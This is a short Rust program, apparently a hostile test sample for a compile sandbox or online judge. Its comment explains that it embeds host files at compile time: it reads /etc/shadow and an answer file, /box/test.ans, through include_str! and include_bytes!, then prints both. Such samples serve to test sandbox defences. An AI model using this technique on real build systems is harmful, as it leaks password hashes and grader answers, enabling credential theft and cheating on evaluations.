// hostile: takes files of the host into the program when it is compiled; they are not where the compiler runs.
const STOLEN: &str = include_str!("/etc/shadow");
const ANSWER: &[u8] = include_bytes!("/box/test.ans");

fn main() {
    println!("{} {:?}", STOLEN, ANSWER);
}
